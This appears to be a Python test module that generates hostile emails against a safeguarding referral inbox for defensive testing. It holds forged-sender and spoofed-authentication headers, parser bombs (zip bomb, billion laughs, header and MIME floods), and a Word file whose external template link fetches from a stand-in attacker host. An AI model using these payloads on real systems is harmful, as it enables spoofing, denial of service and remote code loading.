"""Mail an attacker can send to the partnership's address (issue 8), generated.

Each builder returns the raw bytes a mailbox would hold; `hostile_mail`
makes a mixed batch of at least 500 of them, every attack of issue 8 plus
the malformed and bomb cases the parsers refuse, each message distinct
(its own Message-ID) so none is taken for a duplicate.  All people and
addresses are fictional.

The attacks, by ``kind``:

* ``html_bomb``, ``encoded_word_subject``, ``quoted_from``: a ~120 KB
  message whose parse grows with the square of its size.
* ``forged_referrer``: the case's referrer in ``From:``, its reference in
  the subject, another child's form, ``Reply-To`` the attacker, and no
  verdict from our server (or a forged one, or our server's ``fail``).
* ``relay``: an outsider's Word file with ``Reply-To`` an NHS inbox.
* ``echo``: a helpdesk robot (authenticated) sending our reply back as an
  attached message, with another case's form inside.
* ``our_address``: mail "from us" in another spelling (trailing dot,
  ``+tag``, IP literal, display-name trick).
* ``nul_value``: a form whose answers carry NUL and control characters.
* ``disguised_name``: an authenticated referrer whose subject hides the
  child's name (soft hyphen, zero-width space, look-alike letter).
* ``display_name``: the referrer's address hidden in an outsider's display name.
* ``malformed``: broken MIME, charsets, headers, nesting, part and header
  floods, zip bombs, billion laughs, truncated and encrypted files.
"""

from __future__ import annotations

import base64
import email.utils
import io
import random
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache

from intake.config import PROJECT_ROOT
from parsers.schema import FormSchema, load_schemas
from tests.builders import docx_builder, pdf_builder
from tests.builders.authentication import OUR_MX, verdict_header
from tests.builders.zips import mark_encrypted

OURS = "referrals@westshire-sp.example"
OUR_DOMAIN = "westshire-sp.example"
REFERRER = "jo.referrer@agency.example"
ATTACKER = "mallory@attacker.example"
NHS_INBOX = "ward.7@nhs.example"
ROBOT = "helpdesk@robot.example"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
BOMB_BYTES = 120 * 1024


@dataclass(frozen=True)
class Hostile:
    """One generated message: its attack, its bytes, and who may hear back (if anyone)."""

    kind: str
    raw: bytes
    # The only address a reply may go to, if any: the From address (a sender our
    # server did not prove is answered there only, without the form; issue 8).
    may_reply_to: str | None = None


@cache
def schema() -> FormSchema:
    return load_schemas(PROJECT_ROOT / "config" / "forms")["cspr_referral"]


@cache
def form(seed: int) -> bytes:
    """A complete CSPR form (Word) of a fictional child."""
    answers = docx_builder.random_answers(schema(), seed)
    return docx_builder.filled_docx(schema(), answers, "typed", seed)


@cache
def nul_form(seed: int) -> bytes:
    """A complete fillable PDF form whose answers carry NUL and control characters."""
    answers = docx_builder.random_answers(schema(), seed)
    for key in ("child_forenames", "incident_summary", "referrer_name"):
        if isinstance(answers.get(key), str):
            answers[key] = f"{answers[key][:3]}\x00\x01\x1b{answers[key][3:]}"
    return pdf_builder.acroform_pdf(schema(), answers)


def child_names(seed: int) -> list[str]:
    answers = docx_builder.random_answers(schema(), seed)
    return [str(answers[k]) for k in ("child_forenames", "child_surname") if answers.get(k)]


def message(
    *,
    sender: str,
    subject: str,
    n: int,
    body: str = "Please find the referral form attached.",
    files: tuple[tuple[str, str, bytes], ...] = (),
    headers: tuple[tuple[str, str], ...] = (),
    verdict: str | None = None,
) -> bytes:
    """A plain multipart message; ``verdict`` prepends our MX's results for the From domain."""
    boundary = f"=_hostile_{n}_"
    lines = [
        f"From: {sender}",
        f"To: {OURS}",
        f"Subject: {subject}",
        f"Date: {email.utils.formatdate(localtime=False)}",
        f"Message-ID: <hostile-{n}@attacker.example>",
        "MIME-Version: 1.0",
        *(f"{name}: {value}" for name, value in headers),
        f'Content-Type: multipart/mixed; boundary="{boundary}"',
        "",
        f"--{boundary}",
        "Content-Type: text/plain; charset=utf-8",
        "",
        body,
    ]
    for filename, media_type, data in files:
        encoded = base64.encodebytes(data).decode()
        lines += [
            f"--{boundary}",
            f'Content-Type: {media_type}; name="{filename}"',
            "Content-Transfer-Encoding: base64",
            f'Content-Disposition: attachment; filename="{filename}"',
            "",
            encoded,
        ]
    lines.append(f"--{boundary}--")
    raw = "\r\n".join(lines).encode("utf-8") + b"\r\n"
    if verdict is not None:
        domain = email.utils.parseaddr(sender)[1].rpartition("@")[2]
        raw = verdict_header(domain, verdict) + raw
    return raw


# --- slow to parse -----------------------------------------------------------------


def html_bomb(n: int) -> Hostile:
    head = (
        f"From: {ATTACKER}\r\nTo: {OURS}\r\nSubject: hello {n}\r\n"
        f"Message-ID: <bomb-{n}@attacker.example>\r\nContent-Type: text/html\r\n\r\n"
    )
    return Hostile("html_bomb", head.encode() + b"<a " * (BOMB_BYTES // 3))


def encoded_word_subject(n: int) -> Hostile:
    words = " ".join(["=?utf-8?q?=C3=A9t=C3=A9?="] * (BOMB_BYTES // 26))
    raw = message(sender=ATTACKER, subject=words, n=n)
    return Hostile("encoded_word_subject", raw)


def quoted_from(n: int) -> Hostile:
    # Quotes then backslashes: RFC 5322's quoted-string parser goes back over them.
    sender = '"' * (BOMB_BYTES // 2) + "\\" * 64 + " <" + ATTACKER + ">"
    return Hostile("quoted_from", message(sender=sender, subject=f"hi {n}", n=n))


# --- forged senders, relays, echoes ------------------------------------------------


def forged_referrer(n: int, reference: str) -> Hostile:
    """The referrer's address, the case's reference, another child's form."""
    verdicts = (None, "none", "fail", "forged")
    chosen = verdicts[n % len(verdicts)]
    headers: tuple[tuple[str, str], ...] = (("Reply-To", ATTACKER),)
    if chosen == "forged":  # a pass written by the sender under another server's name
        headers += (
            (
                "Authentication-Results",
                "mx.attacker.example; dmarc=pass header.from=agency.example",
            ),
        )
    raw = message(
        sender=f"Jo Referrer <{REFERRER}>",
        subject=f"RE: Referral [{reference}]",
        n=n,
        files=(("Referral form.docx", DOCX, form(1000 + n % 7)),),
        headers=headers,
        verdict=None if chosen in (None, "forged") else chosen,
    )
    return Hostile("forged_referrer", raw)


def relay(n: int) -> Hostile:
    """An outsider's Word file (external template link) with Reply-To an NHS inbox."""
    authenticated = n % 2 == 0
    raw = message(
        sender=f"Outsider <{ATTACKER}>",
        subject=f"Referral {n} for ward 7",
        n=n,
        files=(("Referral.docx", DOCX, _with_template_link(form(2000 + n % 5))),),
        headers=(("Reply-To", NHS_INBOX),),
        verdict="pass" if authenticated else None,
    )
    return Hostile("relay", raw, may_reply_to=ATTACKER)


def _with_template_link(docx: bytes) -> bytes:
    """``docx`` with an external attached-template relationship, as Word writes it."""
    source = zipfile.ZipFile(io.BytesIO(docx))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "word/_rels/settings.xml.rels":
                continue
            target.writestr(item, data)
        target.writestr(
            "word/_rels/settings.xml.rels",
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships/attachedTemplate" Target="https://attacker.example/t.dotm" '
            'TargetMode="External"/></Relationships>',
        )
    return out.getvalue()


def our_reply(n: int, reference: str) -> bytes:
    """A reply of ours as it left us: our address, our Message-ID, our mark, a form."""
    return message(
        sender=f"Westshire Safeguarding Partnership <{OURS}>",
        subject=f"Your referral: some answers are needed [{reference}]",
        n=90000 + n,
        body="Some answers are needed.\n\nThis is an automatic reply.",
        files=(("Referral form.docx", DOCX, form(3000 + n % 5)),),
        headers=(
            ("Auto-Submitted", "auto-replied"),
            ("X-Intake-Reply", reference),
        ),
    ).replace(
        f"<hostile-{90000 + n}@attacker.example>".encode(),
        f"<wsp-{n:032x}@{OUR_DOMAIN}>".encode(),
    )


def echo(n: int, reference: str) -> Hostile:
    """A helpdesk robot (authenticated) sends our reply back, attached."""
    inner = our_reply(n, reference)
    raw = message(
        sender=f"IT Helpdesk <{ROBOT}>",
        subject=f"[Ticket #{n}] Your referral: some answers are needed",
        n=n,
        body="Your message has been logged with our service desk.",
        files=(("original.eml", "message/rfc822", inner),),
        verdict="pass",
    )
    # message/rfc822 must not be base64 (RFC 2046 5.2.1); some robots do it anyway.
    if n % 2:
        raw = raw.replace(b"message/rfc822", b"application/octet-stream")
    return Hostile("echo", raw, may_reply_to=ROBOT)


OUR_SPELLINGS = (
    "referrals@westshire-sp.example.",
    "REFERRALS@WESTSHIRE-SP.EXAMPLE",
    "referrals+cases@westshire-sp.example",
    "referrals@[192.0.2.10]",
    f'"{OURS}" <{ATTACKER}>',
    f"Partnership ({OURS}) <{ATTACKER}>",
)


def our_address(n: int) -> Hostile:
    sender = OUR_SPELLINGS[n % len(OUR_SPELLINGS)]
    raw = message(
        sender=sender,
        subject=f"Referral {n}",
        n=n,
        files=(("Referral form.docx", DOCX, form(4000 + n % 3)),),
    )
    return Hostile("our_address", raw)


def nul_value(n: int) -> Hostile:
    sender = f"Nul Sender <nul{n}@agency{n}.example>"
    raw = message(
        sender=sender,
        subject=f"Referral\x00 {n}",
        n=n,
        files=(("Referral\x00form\x07.pdf", "application/pdf", nul_form(5000 + n % 3)),),
        verdict="pass" if n % 2 else None,
    )
    return Hostile("nul_value", raw, may_reply_to=f"nul{n}@agency{n}.example")


DISGUISES = ("\u00ad", "\u200b", "\u2060", "\ufeff")
LOOKALIKE = str.maketrans({"a": "\u0430", "e": "\u0435", "o": "\u043e"})


def disguised_name(n: int) -> Hostile:
    seed = 6000 + n % 5
    forename = child_names(seed)[0]
    if n % 5 == 4:
        hidden = forename.translate(LOOKALIKE)
    else:
        mark = DISGUISES[n % len(DISGUISES)]
        hidden = forename[:2] + mark + forename[2:]
    address = f"disguise{n}@agency{n}.example"
    raw = message(
        sender=f"Dee Guise <{address}>",
        subject=f"Referral for {hidden}",
        n=n,
        files=(("Referral form.docx", DOCX, form(seed)),),
        verdict="pass",
    )
    return Hostile("disguised_name", raw, may_reply_to=address)


def display_name(n: int, reference: str) -> Hostile:
    raw = message(
        sender=f'"{REFERRER}" <{ATTACKER}>',
        subject=f"Updated form [{reference}]",
        n=n,
        files=(("Referral form.docx", DOCX, form(7000 + n % 3)),),
        verdict="pass",
    )
    return Hostile("display_name", raw, may_reply_to=ATTACKER)


# --- malformed and bombs -------------------------------------------------------------


@cache
def _zip_bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("form.docx", b"\0" * (60 * 1024 * 1024))
    return out.getvalue()


@cache
def _billion_laughs() -> bytes:
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{"&lol{i - 1};".replace("lol0", "lol") * 10}">' for i in range(1, 10)
    )
    xml = f'<?xml version="1.0"?><!DOCTYPE lolz [{entities}]><w:document>&lol9;</w:document>'
    source = zipfile.ZipFile(io.BytesIO(form(1)))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = xml.encode() if item.filename == "word/document.xml" else source.read(item)
            target.writestr(item, data)
    return out.getvalue()


def _nested(depth: int) -> bytes:
    body = b"Content-Type: text/plain\r\n\r\nbottom\r\n"
    for level in range(depth):
        b = f"b{level}".encode()
        body = (
            b'Content-Type: multipart/mixed; boundary="' + b + b'"\r\n\r\n--' + b + b"\r\n"
            + body + b"\r\n--" + b + b"--\r\n"
        )  # fmt: skip
    return body


MALFORMED: tuple[Callable[[int], bytes], ...] = (
    lambda n: message(sender=ATTACKER, subject=f"zip bomb {n}", n=n,
                      files=(("bomb.zip", "application/zip", _zip_bomb()),)),
    lambda n: message(sender=ATTACKER, subject=f"laughs {n}", n=n,
                      files=(("form.docx", DOCX, _billion_laughs()),)),
    lambda n: message(sender=ATTACKER, subject=f"truncated {n}", n=n,
                      files=(("form.docx", DOCX, form(8000)[: 3000 + n]),)),
    lambda n: message(sender=ATTACKER, subject=f"encrypted {n}", n=n,
                      files=(("form.zip", "application/zip", _encrypted_zip()),)),
    lambda n: (f"From: {ATTACKER}\r\nSubject: nest {n}\r\nMessage-ID: <nest-{n}@a.example>\r\n"
               "MIME-Version: 1.0\r\n").encode() + _nested(300),
    lambda n: (f"From: {ATTACKER}\r\nSubject: parts {n}\r\nMessage-ID: <parts-{n}@a.example>\r\n"
               'Content-Type: multipart/mixed; boundary="x"\r\n\r\n').encode()
              + b"--x\r\n\r\n" * 30000 + b"--x--\r\n",
    lambda n: "".join(f"X-Flood-{i}: {i}\r\n" for i in range(20000)).encode()
              + f"From: {ATTACKER}\r\nMessage-ID: <flood-{n}@a.example>\r\n\r\nhi\r\n".encode(),
    lambda n: (f"From: {ATTACKER}\r\nSubject: =?x-unknown?q?{n}=FF?=\r\n"
               f"Message-ID: <cs-{n}@a.example>\r\nContent-Type: text/plain; charset=x-nope\r\n"
               "Content-Transfer-Encoding: base64\r\n\r\n!!!not base64!!!\r\n").encode(),
    lambda n: (f"From: {ATTACKER}\x00\r\nSubject: nul\x00header {n}\r\n"
               f"Message-ID: <nul-{n}@a.example>\r\nDate: Mon, 32 Foo 99999 +99999999\r\n\r\n"
               "body\x00with nul\r\n").encode(),
    lambda n: (f"From: {ATTACKER}\r\nMessage-ID: <long-{n}@a.example>\r\nSubject: "
               + "x" * 200_000 + "\r\n\r\n" + "y" * 300_000).encode(),
    lambda n: b"\xff\xfe garbage \x00\x01" * 50 + f"<junk-{n}>".encode(),
    lambda n: message(sender=ATTACKER, subject=f"boundary {n}", n=n).replace(b"--=_h", b"--=_x"),
    lambda n: _sender_flood(n),
    lambda n: message(sender=ATTACKER, subject=f"too large {n}", n=n,  # 1.1 MB as sent
                      files=(("big.bin", "application/octet-stream", bytes(800_000)),)),
)  # fmt: skip


def _sender_flood(n: int) -> bytes:
    """Hundreds of long From headers and deeply commented results claiming our MX:
    what the worker itself reads of a message, outside the sandbox."""
    results = f"Authentication-Results: {OUR_MX}; {'(' * 1500}{')' * 1500} dmarc=pass\r\n"
    head = f"From: {'a' * 4000}\r\n" * 150 + results * 60
    return (head + f"Message-ID: <senders-{n}@a.example>\r\n\r\nhi\r\n").encode()


def _encrypted_zip() -> bytes:
    return mark_encrypted(_zip_of(form(8001)))


def _zip_of(data: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("form.docx", data)
    return out.getvalue()


def malformed(n: int) -> Hostile:
    return Hostile("malformed", MALFORMED[n % len(MALFORMED)](n))


# --- the batch ---------------------------------------------------------------------------

# How many of each kind in a batch: the slow ones cost their budget each, and the
# kinds whose form is read cost a document read each, so the cheap ones are many.
MIX = {
    "html_bomb": 3,
    "encoded_word_subject": 5,
    "quoted_from": 3,
    "forged_referrer": 24,
    "relay": 12,
    "echo": 40,
    "our_address": 150,
    "nul_value": 8,
    "disguised_name": 8,
    "display_name": 6,
    "malformed": 246,
}


def hostile_mail(reference: str, seed: int = 8) -> Iterator[Hostile]:
    """At least 500 hostile messages against the case ``reference``, in a shuffled order."""
    makers: dict[str, Callable[[int], Hostile]] = {
        "html_bomb": html_bomb,
        "encoded_word_subject": encoded_word_subject,
        "quoted_from": quoted_from,
        "forged_referrer": lambda n: forged_referrer(n, reference),
        "relay": relay,
        "echo": lambda n: echo(n, reference),
        "our_address": our_address,
        "nul_value": nul_value,
        "disguised_name": disguised_name,
        "display_name": lambda n: display_name(n, reference),
        "malformed": malformed,
    }
    batch = [(kind, i) for kind, count in MIX.items() for i in range(count)]
    random.Random(seed).shuffle(batch)
    for number, (kind, i) in enumerate(batch):
        yield makers[kind](number * 1000 + i)
